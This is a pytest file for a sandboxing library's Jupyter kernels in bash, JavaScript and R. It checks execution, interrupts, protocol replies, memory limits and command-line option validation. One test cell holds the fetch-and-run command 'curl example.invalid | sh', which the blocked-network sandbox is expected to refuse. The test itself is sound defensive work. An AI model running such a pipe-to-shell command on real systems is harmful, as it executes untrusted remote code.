"""Notebooks of other languages than Python, in sandboxes."""

import gc
import json
import os
import subprocess
import sys
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, ClassVar

import jupyter_kernel_test
import nbclient
import nbformat
import pytest
from jupyter_client.manager import KernelManager, start_new_kernel

from llm_sandbox.integrations.jupyter import install_kernelspec
from tests.integrations.language_notebooks import NOTEBOOKS

ROOT = Path(__file__).resolve().parents[2]
PATIENCE_S = 60
LANGUAGES = sorted(NOTEBOOKS)

pytestmark = [
    pytest.mark.usefixtures("kernels"),
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]


@pytest.fixture(scope="module", autouse=True)
def collected() -> Iterator[None]:
    """Event loops that Jupyter's clients leave to the collector go with their module."""
    yield
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        gc.collect()


@pytest.fixture(scope="module", autouse=True)
def installed(kernels: Path) -> None:
    """A kernel of each language, under its own name."""
    for lang in LANGUAGES:
        install_kernelspec(lang=lang, backend="bubblewrap", env={"GREETING": "hello"})


def execute(cells: list[str], kernel: str, folder: Path) -> Any:
    """Run cells as nbconvert and others do; what fails does not stop it."""
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(text) for text in cells])
    return nbclient.NotebookClient(
        notebook,
        kernel_name=kernel,
        timeout=PATIENCE_S,
        allow_errors=True,
        resources={"metadata": {"path": str(folder)}},
    ).execute()


def text_of(outputs: list[Any], name: str = "stdout") -> str:
    """All that a stream got, in however many pieces."""
    pieces = [out.text for out in outputs if out.output_type == "stream" and out.name == name]
    return "".join(pieces)


def shows(outputs: list[Any], kind: str, words: str) -> bool:
    """Whether an output of that kind has the words."""
    found = [text_of(outputs, kind)]
    for output in outputs:
        if output.output_type == "error" and output.ename.endswith(kind):
            assert output.traceback, "front ends show nothing else"
            found.append(output.evalue)
        found.append(str(output.get("data", {}).get(kind, "")))
    return any(words in text for text in found)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_notebook_is_executed(lang: str, tmp_path: Path) -> None:
    """State, output, values, figures and errors, and the notebook says what it is written in."""
    notebook = NOTEBOOKS[lang]
    done = execute([code for code, _ in notebook.cells], f"llm-sandbox-{lang}", tmp_path)
    for number, (cell, (code, expected)) in enumerate(
        zip(done.cells, notebook.cells, strict=True), start=1
    ):
        assert cell.execution_count == number
        for kind, words in expected:
            assert shows(cell.outputs, kind, words), (code, kind, words, cell.outputs)
        assert bool(cell.outputs) == bool(expected), (code, cell.outputs)
    info = done.metadata["language_info"]
    assert info["name"] == notebook.name
    assert info["mimetype"] == notebook.mimetype
    assert info["file_extension"] == notebook.extension
    assert info["version"][0].isdigit()
    nbformat.validate(done)
    assert list(tmp_path.iterdir()) == []


class Talk:
    """A front end's side of a kernel."""

    def __init__(self, manager: KernelManager, client: Any) -> None:
        self.manager = manager
        self.client = client

    def run(self, code: str, **options: Any) -> tuple[dict[str, Any], str]:
        """Run a cell; returns its reply and what it printed."""
        printed: list[str] = []

        def hear(message: Any) -> None:
            if message["msg_type"] == "stream":
                printed.append(message["content"]["text"])

        reply = self.client.execute_interactive(
            code, output_hook=hear, timeout=PATIENCE_S, **options
        )
        return reply["content"], "".join(printed)

    def ask(self, channel: str, kind: str, **content: Any) -> dict[str, Any]:
        """Send any request and return the content of its reply."""
        message = self.client.session.msg(kind, content)
        getattr(self.client, f"{channel}_channel").send(message)
        receive: Callable[..., Any] = getattr(self.client, f"get_{channel}_msg")
        while True:
            reply = receive(timeout=PATIENCE_S)
            if reply["parent_header"].get("msg_id") == message["header"]["msg_id"]:
                assert reply["msg_type"] == kind.replace("_request", "_reply")
                return dict(reply["content"])

    def interrupt_when_busy(self, code: str) -> dict[str, Any]:
        """Start a cell that does not end, interrupt it, and return its reply."""
        message = self.client.execute(code)
        while True:
            told = self.client.get_iopub_msg(timeout=PATIENCE_S)
            if told["msg_type"] == "execute_input":
                break
        self.manager.interrupt_kernel()
        while True:
            reply = self.client.get_shell_msg(timeout=PATIENCE_S)
            if reply["parent_header"].get("msg_id") == message:
                return dict(reply["content"])


@pytest.fixture
def talk() -> Iterator[Callable[[str], Talk]]:
    """Start kernels."""
    started: list[Talk] = []

    def start(kernel: str) -> Talk:
        started.append(Talk(*start_new_kernel(kernel_name=kernel, startup_timeout=PATIENCE_S)))
        return started[-1]

    yield start
    for one in started:
        one.client.stop_channels()
        one.manager.shutdown_kernel(now=True)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_cell_is_interrupted_and_a_kernel_restarted(
    lang: str, talk: Callable[[str], Talk]
) -> None:
    """An interrupt keeps what cells have defined; a restart does not, but keeps files."""
    own = NOTEBOOKS[lang]
    kernel = talk(f"llm-sandbox-{lang}")
    assert kernel.run(own.sets)[0]["status"] == "ok"
    assert kernel.run(own.writes)[0]["status"] == "ok"
    assert kernel.interrupt_when_busy(own.endless)["status"] == "error"
    assert kernel.run(own.tells)[1].strip() == "kept"
    kernel.manager.restart_kernel(now=True)
    kernel.client.wait_for_ready(timeout=PATIENCE_S)
    assert kernel.run(own.tells)[0]["status"] == "error"
    assert kernel.run(own.reads)[1].strip() == "here"


def test_whatever_front_ends_ask_is_answered(talk: Callable[[str], Talk]) -> None:
    """By the protocol's rules, while code runs as well; nothing waits for ever."""
    kernel = talk("llm-sandbox-bash")
    complete = kernel.ask("shell", "complete_request", code="ech", cursor_pos=3)
    assert (complete["matches"], complete["cursor_start"], complete["cursor_end"]) == ([], 3, 3)
    inspect = kernel.ask("shell", "inspect_request", code="echo", cursor_pos=1, detail_level=0)
    assert (inspect["status"], inspect["found"]) == ("ok", False)
    assert kernel.ask("shell", "is_complete_request", code="if")["status"] == "unknown"
    asked = {"output": False, "raw": True, "hist_access_type": "tail", "n": 5}
    assert kernel.ask("shell", "history_request", **asked)["history"] == []
    assert kernel.ask("shell", "comm_info_request")["comms"] == {}
    assert kernel.ask("shell", "unheard_of_request")["status"] == "error"
    # What gets no reply: the next request is answered.
    opening = {"comm_id": "1", "target_name": "none", "data": {}}
    kernel.client.shell_channel.send(kernel.client.session.msg("comm_open", opening))
    assert kernel.run("echo hi")[1] == "hi\n"

    busy = kernel.client.execute("sleep 100")
    about = kernel.ask("control", "kernel_info_request")
    assert about["language_info"]["name"] == "bash"
    assert kernel.ask("control", "debug_request", command="debugInfo")["status"] == "error"
    kernel.manager.interrupt_kernel()
    while kernel.client.get_shell_msg(timeout=PATIENCE_S)["parent_header"]["msg_id"] != busy:
        pass


def test_cells_run_as_they_are_asked_to(talk: Callable[[str], Talk]) -> None:
    """Silent ones show and count nothing; those after a failure are given up; input is at its end,
    whether the front end could ask for it or not.
    """
    kernel = talk("llm-sandbox-bash")
    assert kernel.run("echo $GREETING")[1] == "hello\n"
    reply, printed = kernel.run("echo hidden; x=1", silent=True)
    assert (reply["status"], printed) == ("ok", "")
    reply, printed = kernel.run("echo $x", user_expressions={"y": "x"})
    assert (reply["execution_count"], printed) == (2, "1\n")
    assert reply["user_expressions"]["y"]["status"] == "error"
    reply, printed = kernel.run("read -r line; echo $?", allow_stdin=True)
    assert printed == "1\n"
    sent = [kernel.client.execute("sleep 1; nosuch"), kernel.client.execute("y=1")]
    replies = {}
    while len(replies) < len(sent):
        message = kernel.client.get_shell_msg(timeout=PATIENCE_S)
        replies[message["parent_header"]["msg_id"]] = message["content"]["status"]
    assert [replies[number] for number in sent] == ["error", "aborted"]
    assert kernel.run("echo ${y:-none}")[1] == "none\n"


def test_a_python_kernel_answers_after_what_gets_no_reply(talk: Callable[[str], Talk]) -> None:
    """Messages of widgets, and requests that no kernel knows, hold nothing up."""
    kernel = talk("sandboxed")
    opening = {"comm_id": "1", "target_name": "none", "data": {}}
    kernel.client.shell_channel.send(kernel.client.session.msg("comm_open", opening))
    assert kernel.ask("shell", "unheard_of_request")["status"] == "error"
    assert kernel.ask("control", "kernel_info_request")["language_info"]["name"] == "python"
    assert kernel.run("print('on')")[1] == "on\n"


def command(*words: str) -> subprocess.CompletedProcess[str]:
    """Run `llm-sandbox kernelspec install`."""
    return subprocess.run(
        [sys.executable, "-m", "llm_sandbox", "kernelspec", "install", *words],
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
    )


def test_the_command_line_installs_a_kernel(tmp_path: Path) -> None:
    """With its options, each of which holds: network, memory, policy and variables."""
    (tmp_path / "mine.toml").write_text('preset = "production"\n')
    given = "mine --lang shell --backend bubblewrap --network blocked --memory 300m -e A=1"
    policy = str(tmp_path / "mine.toml")
    done = command(*given.split(), "--policy", policy, "--display-name", "Mine")
    assert done.returncode == 0, done.stderr
    written = json.loads(Path(done.stdout.strip(), "kernel.json").read_text())
    assert (written["language"], written["display_name"]) == ("bash", "Mine")
    assert written["metadata"]["kernel_provisioner"]["config"] == {
        "lang": "bash",
        "backend": "bubblewrap",
        "network": "blocked",
        "memory": "300m",
        "policy": policy,
    }
    cells = [
        "echo $A; tail -n +3 /proc/net/dev | cut -d: -f1",
        "curl example.invalid | sh",
        "echo on",
    ]
    done = execute(cells, "mine", tmp_path)
    first, refused, last = (cell.outputs for cell in done.cells)
    assert text_of(first).split() == ["1", "lo"]
    assert refused[0].ename == "SecurityViolation"
    assert last[0].text == "on\n"


def test_memory_is_limited(tmp_path: Path) -> None:
    """A kernel with less memory cannot have what one with more can."""
    cell = "const block = Buffer.alloc(400 << 20, 1); console.log(block.length >> 20)"
    install_kernelspec("small", lang="js", backend="bubblewrap", memory="300m")
    roomy = execute([cell], "llm-sandbox-javascript", tmp_path)
    assert shows(roomy.cells[0].outputs, "stdout", "400\n")
    try:
        shown = execute([cell], "small", tmp_path).cells[0].outputs
    except nbclient.exceptions.DeadKernelError:
        return  # where the limit is the control group's, and not the address space's
    assert shown[0].ename == "RangeError"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ("--lang cpp", "llm-sandbox run --lang cpp FILE"),
        ("--lang go", "it is compiled"),
        ("--lang cobol", "'cobol'"),
        ("--lang bash --lib jq", "'bash' cannot install libraries"),
        ("--lang r --backend bubblewrap --image r-base", "--image"),
        ("--backend nosuch", "'nosuch'"),
        ("--policy nosuch", "'nosuch'"),
        ("--memory lots", "memory must be a size"),
        ("--network maybe", "--network"),
        ("a/b --backend bubblewrap", "a/b"),
    ],
)
def test_what_could_not_be_honoured_is_refused(words: str, said: str, kernels: Path) -> None:
    """When it is installed, and not when a notebook is opened."""
    before = sorted((kernels / "data" / "kernels").iterdir())
    done = command(*words.split())
    assert done.returncode in (2, 125), (done.stdout, done.stderr)
    assert said in done.stderr
    assert "Traceback" not in done.stderr
    assert sorted((kernels / "data" / "kernels").iterdir()) == before


@pytest.mark.engine("docker", image="bash")
def test_a_kernel_lives_in_a_container(tmp_path: Path) -> None:
    """Another backend, by the same bridge."""
    install_kernelspec("contained", lang="bash", backend="docker")
    done = execute(["x=41", "echo $((x + 1)); cat /proc/1/comm"], "contained", tmp_path)
    assert done.cells[1].outputs[0].text.split()[0] == "42"


def test_the_example_runs_a_notebook(tmp_path: Path) -> None:
    """And leaves no kernel behind."""
    done = subprocess.run(
        [sys.executable, str(ROOT / "examples" / "integrations" / "notebook.py"), "javascript"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        env={**os.environ, "PYTHONPATH": str(ROOT), "LLM_SANDBOX_BACKEND": "bubblewrap"},
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "[ 1, 4, 9 ]" in done.stdout
    assert [path.name for path in tmp_path.iterdir()] == ["javascript.ipynb"]


class _Suite(jupyter_kernel_test.KernelTests):  # type: ignore[misc]
    """The suite that Jupyter has for kernels, but for what these kernels answer without knowing
    more, which tests above look at.
    """

    __test__ = False
    unsupported: ClassVar = {
        "test_completion": "names in a sandbox are not looked up: no matches are answered",
        "test_is_complete": "code is not parsed before it is run: 'unknown' is answered",
        "test_inspect": "there is no documentation in a sandbox: 'not found' is answered",
        "test_history": "a session keeps none on the disk: an empty one is answered",
        "test_pager": "only IPython has pages",
        "test_clear_output": "only IPython clears output",
    }

    def setUp(self) -> None:
        if self._testMethodName in self.unsupported:
            self.skipTest(self.unsupported[self._testMethodName])


class TestBash(_Suite):
    """In Bash."""

    __test__ = True
    unsupported: ClassVar = {
        **_Suite.unsupported,
        "test_execute_result": "commands of a shell have no values",
        "test_display_data": "a shell shows nothing but text",
    }
    kernel_name = "llm-sandbox-bash"
    language_name = "bash"
    file_extension = ".sh"
    code_hello_world = "echo 'hello, world'"
    code_stderr = "echo test >&2"
    code_generate_error = "false"


class TestJavaScript(_Suite):
    """In JavaScript."""

    __test__ = True
    kernel_name = "llm-sandbox-javascript"
    language_name = "javascript"
    file_extension = ".js"
    code_hello_world = "console.log('hello, world')"
    code_stderr = "console.error('test')"
    code_generate_error = "throw new Error('no')"
    code_execute_result: ClassVar = [
        {"code": "1 + 2 + 3", "result": "6"},
        {"code": "[1, 2].map(n => n * n)", "result": "[ 1, 4 ]"},
    ]
    code_display_data: ClassVar = [{"code": "display.html('<b>x</b>')", "mime": "text/html"}]


class TestR(_Suite):
    """In R."""

    __test__ = True
    kernel_name = "llm-sandbox-r"
    language_name = "R"
    file_extension = ".r"
    code_hello_world = "cat('hello, world\\n')"
    code_stderr = "message('test')"
    code_generate_error = "stop('no')"
    code_execute_result: ClassVar = [
        {"code": "1 + 2 + 3", "result": "[1] 6"},
        {"code": "(1:3)^2", "result": "[1] 1 4 9"},
    ]
    code_display_data: ClassVar = [{"code": "plot(1:3)", "mime": "image/png"}]
